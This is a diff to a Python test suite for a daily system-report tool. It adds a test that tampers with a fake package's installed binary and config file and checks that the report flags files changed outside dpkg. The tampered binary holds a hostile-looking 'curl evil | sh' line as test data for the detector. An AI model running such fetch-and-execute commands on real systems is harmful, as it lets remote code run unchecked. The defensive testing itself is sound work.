@@ -342,7 +342,26 @@ def test_package_operations_of_the_last_day_one_line_each(ws: Workspace, system:
     assert [line[6:] for line in found] == ["upgrade openssl:amd64 3.0.1 → 3.0.2",
                                              "remove telnet:amd64 0.17"]
     verification = block(document, "packages", "verification")
-    assert verification["unavailable"].startswith("package verification is not available")
+    assert verification["unavailable"] == (f"package verification: {system.root}/var/lib/dpkg: "
+                                           "cannot open: No such file or directory")
+
+
+def test_package_files_changed_outside_dpkg_need_attention(ws: Workspace) -> None:
+    from tests.debkit import Deb, FakeRoot
+
+    root = FakeRoot(ws.root / "sys")
+    root.install(Deb("tool", "1.0", {"/usr/bin/tool": b"#!/bin/sh\necho tool\n",
+                                     "/etc/tool.conf": b"a = 1\n"},
+                     conffiles=("/etc/tool.conf",)),
+                 Deb("other", "2.0", {"/usr/bin/other": b"other\n"}))
+    root.file("/usr/bin/tool").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
+    root.file("/etc/tool.conf").write_bytes(b"a = 2\n")
+    document = daily_json(ws, root.path)
+    changed = block(document, "packages", "changed outside dpkg (1)")["lines"]
+    assert changed == ["/usr/bin/tool: changed (tool 1.0)"]
+    assert block(document, "packages", "modified conffiles (1)")["lines"] == \
+        ["/etc/tool.conf: changed (tool 1.0)"]
+    assert "1 package files changed outside dpkg" in [a["text"] for a in document["attention"]]
 
 
 # --- config ------------------------------------------------------------------------------------
